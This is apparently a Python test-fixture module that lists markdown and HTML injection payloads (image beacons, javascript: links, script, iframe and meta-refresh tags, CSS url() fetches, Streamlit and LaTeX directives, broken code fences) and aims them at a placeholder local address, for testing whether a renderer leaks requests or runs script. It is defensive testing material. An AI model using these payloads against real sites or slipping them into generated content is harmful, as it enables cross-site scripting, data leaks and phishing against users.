"""Texts that would act if they were taken for more than text, all aimed at one address.

`PAYLOADS` have the address `TARGET` in them, which nobody listens on; a test that does listen
takes `aimed_at` its own.
"""

from __future__ import annotations

TARGET = "http://127.0.0.1:9"

_IMAGES = """
![leak](@/img?q=secret)
![leak](<@/img-angle>)
![leak](@/img-title "a title")
![leak][ref]
[![leak](@/img-in-link)](@/link)
!\\[leak](@/img-escaped)
![a ![b](@/img-inner)](@/img-outer)
![leak](&#104;ttp://@@/img-entity)
![leak](//@@/img-without-scheme)
![leak](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
<img src=@/tag-img onerror=alert(1)>
<img src="x" onerror="fetch('@/on-error');alert(1)">
<img srcset="@/srcset-1 1x, @/srcset-2 2x">
<img src='x'onerror=alert(1)//
<picture><source srcset="@/picture"><img></picture>
<image href="@/image" xlink:href="@/image-x"></image>
<input type=image src=@/input-image>
<video poster="@/poster" src="@/video" autoplay></video>
<audio src=@/audio autoplay preload=auto></audio>
<svg><image href="@/svg-image"/><use href="@/svg-use#x"/></svg>
<svg onload="alert(1)"><script href="@/svg-script">alert(1)</script></svg>
<table background="@/table-background"><tr><td background="@/td-background">x</td></tr></table>
<body background="@/body" onload=alert(1)>
"""

_LINKS = """
[click](javascript:alert(document.domain))
[click](JaVaScRiPt:alert(1))
[click](java&#10;script:alert(1))
[click](&#106;avascript:alert(1))
[click](data:text/html,<script>alert(1)</script>)
[click](vbscript:msgbox(1))
[click](blob:@/blob)
<javascript:alert(1)>
<a href="javascript:alert(1)" ping="@/ping">click</a>
<a href=@/tag-link target=_blank>click</a>
[bank](https://bank.example@127.0.0.1:9/)
[ref]: javascript:alert(1)
[ref]: @/reference "title"
[click][ref]
[^1]: ![foot](@/footnote)
a footnote[^1]
"""

_DOCUMENTS = """
<script>alert(1);fetch('@/script')</script>
<script src=@/script-src></script>
<scr<script>ipt src=@/script-nested></script>
<iframe src=@/iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data=@/object></object><embed src=@/embed>
<frameset><frame src=@/frame></frameset>
<meta http-equiv=refresh content="0;url=@/refresh">
<base href=@/>
<link rel=stylesheet href=@/stylesheet>
<link rel=preload as=image href=@/preload><link rel=prefetch href=@/prefetch>
<link rel=dns-prefetch href=@/dns><link rel=preconnect href=@/preconnect>
<link rel=modulepreload href=@/module><link rel=icon href=@/icon>
<form action=@/form><input autofocus onfocus=this.form.submit()><button>Go</button></form>
<form><button formaction="javascript:alert(1)">Go</button></form>
<details open ontoggle=alert(1)><summary>more</summary></details>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<marquee onstart=alert(1)>x</marquee>
<dialog open>Enter your password</dialog>
<template><img src=@/template></template>
<noscript><p title="</noscript><img src=@/noscript onerror=alert(1)>">
<!--><img src=@/comment onerror=alert(1)>-->
<![CDATA[<img src=@/cdata>]]>
<?xml-stylesheet href="@/xml"?>
</p></div><img src=@/closed>
"""

_STYLES = """
<style>@import url(@/css-import);</style>
<style>*{background:url(@/css-background)}</style>
<style>@font-face{font-family:x;src:url(@/css-font)}*{font-family:x}</style>
<div style="background:url(@/style-attribute);position:fixed;inset:0">over everything</div>
<div style="list-style-image:url('@/style-list');cursor:url(@/style-cursor),auto">x</div>
<svg><style>@import '@/svg-style';</style></svg>
"""

_STREAMLIT = """
:material/home: :streamlit: :rocket: :smile:
:red[alarm] :rainbow[alarm] :red-background[alarm] :green-badge[:material/check: done]
:small[tiny] :image[@/directive-image] :image[x](@/directive-image-2)
:red[![leak](@/directive-inside)]
$\\includegraphics{@/latex}$
$$\\href{javascript:alert(1)}{click}$$
$\\htmlData{x=y}{\\url{@/latex-url}}$
:::note ![leak](@/container) :::
"""

_BLOCKS = (
    "```mermaid\ngraph TD; A[<img src=@/mermaid onerror=alert(1)>]; click A href '@/click'\n```",
    "```html\n<img src=@/fence onerror=alert(1)>\n```",
    "```\nnever closed ![leak](@/fence-open)",
    "````\n```\n![leak](@/fence-long)\n````\n![leak](@/fence-after)",
    "> ```\n![leak](@/fence-quote)\n> ```",
    "1. a\n   ```\n   b\n![leak](@/fence-list)",
    "| a | b |\n|---|---|\n| ` | ![leak](@/table-code) ` |",
    "![leak]\n(@/two-lines)",
    "![leak][r]\n\n[r]: @/reference-image",
    "[r]:\n  @/reference-lines\n\n![r]",
    "a ` b\n` ![leak](@/code-lines) `",
    "text\u2028![leak](@/line-separator)",
    "!\u200b[leak](@/zero-width)",
    "!\x00[leak](@/nul)",
    "!\u202e[leak](@/bidi)",
    "<img\x0bsrc=@/vertical-tab>",
    "<img\nsrc=@/newline\nonerror=alert(1)\n>",
    "$$\n![leak](@/math-block)\n$$",
    "# ![leak](@/heading)\n\n![leak](@/setext)\n======",
    "**![leak](@/bold)** _![leak](@/em)_ ~~![leak](@/strike)~~",
    "- [ ] ![leak](@/task)",
    "---\ntitle: ![leak](@/front-matter)\n---",
)


def _written(lines: str) -> list[str]:
    return [line for line in lines.strip().split("\n") if line]


_FORMS = [
    *(_written(_IMAGES) + _written(_LINKS) + _written(_DOCUMENTS)),
    *(_written(_STYLES) + _written(_STREAMLIT)),
    *_BLOCKS,
]


def aimed_at(target: str) -> list[str]:
    """Every payload, its requests aimed at this origin ("http://127.0.0.1:8000")."""
    bare = target.removeprefix("http://")
    return [
        form.replace("@@", bare).replace("@/", f"{target}/").replace("127.0.0.1:9", bare)
        for form in _FORMS
    ]


PAYLOADS = aimed_at(TARGET)
